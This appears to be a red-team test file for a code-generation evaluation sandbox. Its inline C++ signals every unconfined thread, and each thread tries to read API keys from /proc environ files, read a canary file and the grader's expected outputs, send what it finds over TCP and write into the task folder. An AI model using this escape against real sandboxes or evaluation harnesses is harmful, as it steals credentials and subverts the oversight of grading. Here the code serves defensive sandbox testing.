"""Exploit: run code on a thread of the child that Landlock never confined (docs/threat-model.md).

Landlock confines only the thread that calls it; threads that existed before (one from `import
torch` on the cpu, the CUDA driver's on a GPU) stay outside. This candidate installs a C++ signal
handler (sigaction) and tgkill()s every other thread of its process (/proc/self/task); the handler,
raw syscalls only, tries from that thread, and the main thread tries the same for comparison:
  (a) read the canary file the test planted, any /tmp/kgen-expected-*/ file, the database;
  (b) read /proc/<ppid>/environ and /proc/1/environ, looking for OPENAI_API_KEY;
  (c) connect to the test's TCP listener on 127.0.0.1 and send what it found;
  (d) create a file in the task file's folder and in the database's folder, append to the task file;
  (e) getuid() == 0 ("root").
It does so at import (module level, so in the build child too) and on the first forward call (the
eval child). A build child that leaked leaves a note beside its extension, which the eval child reads.
Anything that worked on any thread makes it print what leaked and return zeros (a wrong answer);
when every thread is confined the answer is computed honestly and the verdict is correct.
The test fills in the __KGEN_...__ placeholders (a copy of this file goes to a temp project)."""
import os
import sys

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

CANARY_FILE = "__KGEN_CANARY_FILE__"
DB_PATH = "__KGEN_DB_PATH__"
TASK_PATH = "__KGEN_TASK_PATH__"
PORT = int("__KGEN_PORT__")

_SOURCE = r"""
#include <torch/extension.h>
#include <atomic>
#include <cerrno>
#include <csignal>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

namespace {
constexpr int kSlots = 64;
constexpr size_t kBuf = 1 << 15;
const char* const kNames[] = {"root", "canary file", "expected file", "database", "parent environ",
                              "pid 1 environ", "tcp", "file in task dir", "file in db dir", "task appended"};
enum : unsigned { kRoot = 1, kCanary = 2, kExpected = 4, kDb = 8, kPpidEnv = 16, kInitEnv = 32, kTcp = 64,
                  kTaskDir = 128, kDbDir = 256, kAppend = 512 };

struct Slot {
  std::atomic<int> done{0};
  long tid = 0;
  unsigned leaks = 0;
  char found[512];  // secrets read (the canary file, the key): what an attacker would send home
  char buf[kBuf];
};
Slot g_slots[kSlots];
std::atomic<int> g_next{0};
char g_canary[512], g_db[512], g_task[512], g_taskdir[512], g_dbdir[512], g_stage[32];
int g_port = 0;

// Async-signal-safe helpers: no malloc, no stdio, no locks.
size_t slen(const char* s) { size_t n = 0; while (s[n]) ++n; return n; }
void cat(char* dst, size_t cap, const char* src) {
  size_t n = slen(dst);
  while (*src && n + 1 < cap) dst[n++] = *src++;
  dst[n] = 0;
}
void cat_num(char* dst, size_t cap, long v) {
  char tmp[24]; int i = 23; tmp[i] = 0;
  if (v == 0) tmp[--i] = '0';
  while (v > 0) { tmp[--i] = char('0' + v % 10); v /= 10; }
  cat(dst, cap, tmp + i);
}
const char* find(const char* hay, size_t n, const char* needle) {
  size_t m = slen(needle);
  for (size_t i = 0; i + m <= n; ++i)
    if (memcmp(hay + i, needle, m) == 0) return hay + i;
  return nullptr;
}
long read_path(const char* path, char* buf, size_t cap) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  size_t n = 0;
  while (n < cap) { long r = read(fd, buf + n, cap - n); if (r <= 0) break; n += size_t(r); }
  close(fd);
  return long(n);
}
bool make_file(const char* dir) {
  char path[700] = {0};
  cat(path, sizeof path, dir); cat(path, sizeof path, "/thread-escape-"); cat(path, sizeof path, g_stage);
  cat(path, sizeof path, "-"); cat_num(path, sizeof path, long(syscall(SYS_gettid)));
  int fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0644);
  if (fd < 0) return false;
  (void)!write(fd, "pwned\n", 6);
  close(fd);
  return true;
}
// The first file of any /tmp/kgen-expected-*/ folder: the parent's float64 expected outputs.
bool read_expected(Slot& s) {
  int dir = open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dir < 0) return false;
  char ents[4096]; bool got = false; long n;
  while (!got && (n = syscall(SYS_getdents64, dir, ents, sizeof ents)) > 0) {
    for (long off = 0; off < n && !got;) {
      auto* e = reinterpret_cast<struct dirent64*>(ents + off);
      off += e->d_reclen;
      if (strncmp(e->d_name, "kgen-expected-", 14) != 0) continue;
      char sub[300] = "/tmp/"; cat(sub, sizeof sub, e->d_name);
      int d2 = open(sub, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
      if (d2 < 0) continue;
      char ents2[4096]; long n2 = syscall(SYS_getdents64, d2, ents2, sizeof ents2);
      close(d2);
      for (long o2 = 0; o2 < n2 && !got;) {
        auto* f = reinterpret_cast<struct dirent64*>(ents2 + o2);
        o2 += f->d_reclen;
        if (f->d_name[0] == '.') continue;
        char file[600] = {0}; cat(file, sizeof file, sub); cat(file, sizeof file, "/"); cat(file, sizeof file, f->d_name);
        got = read_path(file, s.buf, 64) > 0;
      }
    }
  }
  close(dir);
  return got;
}
void read_environ(Slot& s, long pid, unsigned bit) {
  char path[64] = "/proc/"; cat_num(path, sizeof path, pid); cat(path, sizeof path, "/environ");
  long n = read_path(path, s.buf, kBuf - 1);
  if (n <= 0) return;
  s.leaks |= bit;
  const char* key = find(s.buf, size_t(n), "OPENAI_API_KEY=");
  if (key) { cat(s.found, sizeof s.found, " env:"); cat(s.found, sizeof s.found, key + 15); }
}

void probe(Slot& s) {
  s.tid = long(syscall(SYS_gettid));
  if (getuid() == 0) s.leaks |= kRoot;
  long n = read_path(g_canary, s.buf, 200);
  if (n > 0) {
    s.leaks |= kCanary; s.buf[n] = 0;
    for (long i = 0; i < n; ++i) if (s.buf[i] == '\n') s.buf[i] = ' ';
    cat(s.found, sizeof s.found, " file:"); cat(s.found, sizeof s.found, s.buf);
  }
  if (read_path(g_db, s.buf, 16) >= 15 && memcmp(s.buf, "SQLite format 3", 15) == 0) s.leaks |= kDb;
  if (read_expected(s)) s.leaks |= kExpected;
  read_environ(s, long(getppid()), kPpidEnv);
  read_environ(s, 1, kInitEnv);
  int sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (sock >= 0) {
    sockaddr_in addr{};
    addr.sin_family = AF_INET; addr.sin_port = htons(uint16_t(g_port)); addr.sin_addr.s_addr = htonl(0x7F000001);
    if (connect(sock, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0) {
      s.leaks |= kTcp;
      char msg[700] = "thread-escape "; cat(msg, sizeof msg, g_stage); cat(msg, sizeof msg, s.found);
      cat(msg, sizeof msg, "\n");
      (void)!write(sock, msg, slen(msg));
    }
    close(sock);
  }
  if (make_file(g_taskdir)) s.leaks |= kTaskDir;
  if (make_file(g_dbdir)) s.leaks |= kDbDir;
  int fd = open(g_task, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd >= 0) {
    const char line[] = "\n# thread-escape: appended by a candidate\n";
    if (write(fd, line, sizeof line - 1) > 0) s.leaks |= kAppend;
    close(fd);
  }
}

void on_signal(int, siginfo_t*, void*) {
  int saved = errno;
  int i = g_next.fetch_add(1);
  if (i < kSlots) { probe(g_slots[i]); g_slots[i].done.store(1, std::memory_order_release); }
  errno = saved;
}

void copy(char* dst, const std::string& src) { dst[0] = 0; cat(dst, 512, src.c_str()); }
void parent_dir(char* dst, const std::string& path) {
  copy(dst, path);
  char* slash = strrchr(dst, '/');
  if (slash && slash != dst) *slash = 0;
}
}  // namespace

// One round: the main thread probes, then every other thread is signalled and probes in its handler.
// Returns a summary line, then one line per thread that leaked anything.
std::vector<std::string> escape(std::string stage, std::string canary, std::string db, std::string task, int64_t port) {
  for (auto& s : g_slots) { s.done.store(0); s.tid = 0; s.leaks = 0; s.found[0] = 0; }
  g_next.store(0);
  copy(g_stage, stage.substr(0, 30)); copy(g_canary, canary); copy(g_db, db); copy(g_task, task);
  parent_dir(g_taskdir, task); parent_dir(g_dbdir, db);
  g_port = int(port);
  struct sigaction sa{};
  sa.sa_sigaction = on_signal;
  sa.sa_flags = SA_SIGINFO | SA_RESTART;
  sigfillset(&sa.sa_mask);
  sigaction(SIGUSR2, &sa, nullptr);  // kept installed: a late signal must not kill the process
  const long me = long(syscall(SYS_gettid));
  const long pid = long(getpid());
  on_signal(0, nullptr, nullptr);  // slot 0: the main thread, for comparison
  int sent = 0;
  if (DIR* d = opendir("/proc/self/task")) {
    while (dirent* e = readdir(d)) {
      long tid = atol(e->d_name);
      if (tid > 0 && tid != me && syscall(SYS_tgkill, pid, tid, SIGUSR2) == 0) ++sent;
    }
    closedir(d);
  }
  int answered = 0;
  for (int waited = 0; waited < 3000; ++waited) {  // at most 3 s: a thread with the signal blocked never answers
    answered = 0;
    for (auto& s : g_slots) answered += s.done.load(std::memory_order_acquire);
    if (answered >= sent + 1) break;
    timespec ts{0, 1000000};
    nanosleep(&ts, nullptr);
  }
  std::vector<std::string> out;
  out.push_back(stage + ": main thread " + std::to_string(me) + ", " + std::to_string(sent) +
                " other threads signalled, " + std::to_string(answered - 1) + " answered");
  for (auto& s : g_slots) {
    if (!s.done.load(std::memory_order_acquire) || !s.leaks) continue;
    std::string line = stage + " tid " + std::to_string(s.tid) + (s.tid == me ? " (main thread):" : " (other thread):");
    for (int b = 0; b < 10; ++b) if (s.leaks & (1u << b)) line += std::string(" [") + kNames[b] + "]";
    out.push_back(line + s.found);
  }
  return out;
}

torch::Tensor mse(torch::Tensor predictions, torch::Tensor targets) {
  TORCH_CHECK(predictions.sizes() == targets.sizes(), "shape mismatch");
  TORCH_CHECK(predictions.scalar_type() == torch::kFloat32, "float32 only");
  auto p = predictions.contiguous();
  auto t = targets.contiguous();
  const float* a = p.data_ptr<float>();
  const float* b = t.data_ptr<float>();
  const int64_t n = p.numel();
  double sum = 0.0;
  for (int64_t i = 0; i < n; ++i) { const double d = double(a[i]) - double(b[i]); sum += d * d; }
  auto out = torch::empty({}, p.options());
  out.data_ptr<float>()[0] = float(n ? sum / double(n) : 0.0);
  return out;
}
"""

_ext = load_inline(name="kgen_redteam_thread_escape", cpp_sources=_SOURCE, functions=["escape", "mse"],
                   extra_cflags=["-O2"], verbose=False)
_BUILD = "build" in sys.argv[1:]  # the harness runs as `... build CODE` or `... eval`
_NOTE = os.path.join(os.path.dirname(_ext.__file__), "thread_escape_leaks.txt")  # the build dir
LEAKS = []
_PROBED = []  # the first forward call of this process probes once, whichever instance makes it


def _round(stage):
    print(f"[thread_escape] {stage}: probing", flush=True)  # before any signal: a sandbox that kills us shows it ran
    summary, *leaks = _ext.escape(stage, CANARY_FILE, DB_PATH, TASK_PATH, PORT)
    print(f"[thread_escape] {summary}", flush=True)
    for line in leaks:
        print(f"[thread_escape] LEAK {line}", flush=True)
    LEAKS.extend(leaks)


_round("build-import" if _BUILD else "eval-import")
if _BUILD and LEAKS:
    with open(_NOTE, "w") as f:  # the build dir is the build child's to write; the eval child reads it
        f.write("\n".join(LEAKS))
if not _BUILD and os.path.exists(_NOTE):
    with open(_NOTE) as f:
        for line in f.read().splitlines():
            print(f"[thread_escape] LEAK (the build child's) {line}", flush=True)
            LEAKS.append(f"(the build child's) {line}")


class ModelNew(nn.Module):
    def forward(self, predictions, targets):
        if not _PROBED:
            _PROBED.append(True)
            _round("eval-forward")
        if LEAKS:
            return torch.zeros((), dtype=predictions.dtype)
        return _ext.mse(predictions, targets)
